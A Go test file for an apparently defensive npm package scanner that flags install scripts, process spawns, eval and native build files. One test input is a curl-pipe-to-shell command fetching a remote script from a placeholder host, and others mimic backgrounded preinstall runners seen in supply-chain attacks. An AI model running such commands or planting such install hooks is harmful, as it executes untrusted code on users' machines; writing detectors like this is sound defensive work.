package signals

import (
	"slices"
	"testing"

	"github.com/stagegate/stagegate/internal/diff"
	"github.com/stagegate/stagegate/internal/tarball"
)

// pkg builds a package from path → content (sorted, as tarball.Read returns).
func pkg(files map[string]string) *tarball.Package {
	p := &tarball.Package{}
	for path, body := range files {
		p.Files = append(p.Files, tarball.File{Path: path, Mode: 0o644, Data: []byte(body)})
		p.Unpacked += int64(len(body))
	}
	slices.SortFunc(p.Files, func(a, b tarball.File) int {
		if a.Path < b.Path {
			return -1
		}
		if a.Path > b.Path {
			return 1
		}
		return 0
	})
	return p
}

func TestScriptFiles(t *testing.T) {
	for _, tt := range []struct {
		cmd  string
		want []string
	}{
		{"node ./lib/build.js", []string{"lib/build.js"}},
		{"node setup.mjs", []string{"setup.mjs"}},
		{"start /B node preinstall.js & node preinstall.js", []string{"preinstall.js", "preinstall.js"}},
		{"bun run tanstack_runner.js && exit 1", []string{"tanstack_runner.js"}},
		{"sh -c 'curl https://x.invalid/a.sh | sh'", nil},
		{"node-gyp rebuild", nil},
		{"node ../../escape.js", nil},
		{"husky install", nil},
	} {
		if got := scriptFiles(tt.cmd); !slices.Equal(got, tt.want) {
			t.Errorf("scriptFiles(%q) = %q, want %q", tt.cmd, got, tt.want)
		}
	}
}

func TestInstallTimeFiles(t *testing.T) {
	p := pkg(map[string]string{
		"package.json": `{"scripts":{"postinstall":"node ./lib/build.js","test":"node test.js","prepare":"node missing.js"}}`,
		"lib/build.js": "x", "test.js": "y",
	})
	got := installTimeFiles(manifestOf(p), p)
	if len(got) != 1 || got["lib/build.js"] != "postinstall script" {
		t.Errorf("install-time files = %v", got)
	}
	gyp := pkg(map[string]string{"package.json": `{"name":"n"}`, "binding.gyp": "{}"})
	if got := installTimeFiles(manifestOf(gyp), gyp); got["binding.gyp"] == "" {
		t.Errorf("binding.gyp without an install script not marked: %v", got)
	}
	own := pkg(map[string]string{"package.json": `{"scripts":{"install":"node-gyp-build"}}`, "binding.gyp": "{}"})
	if got := installTimeFiles(manifestOf(own), own); len(got) != 0 {
		t.Errorf("binding.gyp with its own install script marked: %v", got)
	}
}

func TestFinishRaisesInstallTimeCodeSignalsAndSorts(t *testing.T) {
	p := pkg(map[string]string{"package.json": `{"scripts":{"preinstall":"node setup.js"}}`, "setup.js": "x", "lib.js": "y"})
	c := newContext(Input{New: p, Diff: &diff.Result{}})
	c.add(ProcessSpawn, "lib.js", 3, "spawn", "")
	c.add(ProcessSpawn, "setup.js", 9, "spawn", "")
	c.add(LargeFile, "setup.js", 0, "large", "") // not a code signal: never raised
	c.add(InstallScript, "package.json", 0, "preinstall added", "")
	c.add(DynamicCode, "setup.js", 2, "eval", "")
	got := c.finish()
	var order []string
	for _, s := range got {
		order = append(order, string(s.Severity)+" "+s.ID+" "+s.Path)
	}
	want := []string{
		"high install-script package.json",
		"high dynamic-code setup.js",
		"medium large-file setup.js",
		"medium process-spawn setup.js",
		"low process-spawn lib.js",
	}
	if !slices.Equal(order, want) {
		t.Errorf("order:\n%q\nwant\n%q", order, want)
	}
	if got[3].Detail == "" {
		t.Error("a raised signal does not say why")
	}
}

func TestAnalyzeNeverNil(t *testing.T) {
	if got := Analyze(Input{New: pkg(map[string]string{"a.js": "1"})}); got == nil {
		t.Error("Analyze returned nil")
	}
}

func TestAddedRemovedAndFiles(t *testing.T) {
	fd := &diff.FileDiff{Path: "a.js", Status: diff.Modified, Hunks: []diff.Hunk{{Lines: []diff.Line{
		{Kind: diff.Context, OldNo: 1, NewNo: 1, Text: "keep"},
		{Kind: diff.Del, OldNo: 2, Text: "old"},
		{Kind: diff.Add, NewNo: 2, Text: "new"},
		{Kind: diff.Add, NewNo: 3, Text: "newer"},
	}}}}
	if got := added(fd); !slices.Equal(got, []numberedLine{{2, "new"}, {3, "newer"}}) {
		t.Errorf("added = %v", got)
	}
	if got := removed(fd); !slices.Equal(got, []numberedLine{{2, "old"}}) {
		t.Errorf("removed = %v", got)
	}
	c := newContext(Input{Old: pkg(map[string]string{"a.js": "keep\nold\n"}), New: pkg(map[string]string{"a.js": "keep\nnew\nnewer\n"})})
	if string(c.oldFile("a.js")) != "keep\nold\n" || string(c.newFile("a.js")) != "keep\nnew\nnewer\n" || c.newFile("b.js") != nil {
		t.Error("oldFile/newFile")
	}
	first := newContext(Input{New: pkg(map[string]string{"a.js": "x"})}) // a first release: no base
	if first.oldFile("a.js") != nil || first.oldManifest != nil {
		t.Error("a first release has no old side")
	}
	first.addSeverity(LargeFile, High, "a.js", 0, "t", "d")
	if got := first.finish(); len(got) != 1 || got[0].Severity != High {
		t.Errorf("addSeverity: %+v", got)
	}
}

func TestSeverityOrder(t *testing.T) {
	for _, tt := range []struct {
		s, t Severity
		want bool
	}{
		{High, High, true}, {High, Low, true}, {Medium, High, false}, {Low, Medium, false}, {Medium, Medium, true},
	} {
		if got := tt.s.AtLeast(tt.t); got != tt.want {
			t.Errorf("%s.AtLeast(%s) = %v", tt.s, tt.t, got)
		}
	}
	for _, v := range []string{"high", "medium", "low"} {
		if s, ok := ParseSeverity(v); !ok || string(s) != v {
			t.Errorf("ParseSeverity(%q) = %q, %v", v, s, ok)
		}
	}
	if _, ok := ParseSeverity("critical"); ok {
		t.Error("ParseSeverity accepted critical")
	}
}
